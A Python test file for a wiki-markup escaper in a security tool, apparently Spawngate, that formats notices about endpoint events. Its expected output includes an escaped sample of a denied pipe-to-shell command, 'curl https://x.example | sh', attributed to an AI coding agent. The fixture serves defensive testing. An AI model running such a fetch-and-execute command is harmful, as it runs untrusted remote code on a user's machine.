"""`routing.wiki`: nothing of an endpoint acts in wiki markup."""

import html

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spawngate.routing.wiki import LONGEST, document, escape
from tests.routing.samples import ALL, NOTICE

ACTING = set('\\{}[]()*_?+^~|!#@%<>-:;/="') - {'"'}


def test_a_whole_text() -> None:
    assert document(NOTICE).split("\n") == [
        "*10,000 events &#40;9,800 deny, 200 ask&#41; on 2,000 endpoints in 5m*",
        "",
        "* *Type* decision",
        "* *Rule* pipe&#45;to&#45;shell",
        "* *Severity* high",
        "* *First* 2026&#45;11&#45;21T10&#58;00&#58;00Z",
        "* *Last* 2026&#45;11&#45;21T10&#58;05&#58;00Z",
        "* *Route* denies",
        "",
        "2026&#45;11&#45;21T10&#58;00&#58;00Z deny high laptop&#45;1 claude&#45;code ana",
        "bq. Bash&#58; curl https&#58;&#47;&#47;x.example &#124; sh",
        "",
        "[Open in Spawngate|https://console.example/?q=1]",
        "",
        "Spawngate notice 0123456789abcdef0123456789abcdef",
    ]


@pytest.mark.parametrize("name", ALL)
def test_every_notice_is_within_bounds(name: str) -> None:
    assert len(document(ALL[name])) <= LONGEST


@given(st.text(max_size=200))
def test_nothing_acts_and_everything_is_shown(text: str) -> None:
    escaped = escape(text)
    left = escaped
    for number in range(128):
        left = left.replace(f"&#{number};", "")
    assert not ACTING & set(left)
    assert "&" not in left
    assert "\n" not in escaped
    # `html.unescape` reads the references as a browser does.
    assert html.unescape(escaped) == " ".join(text.split())
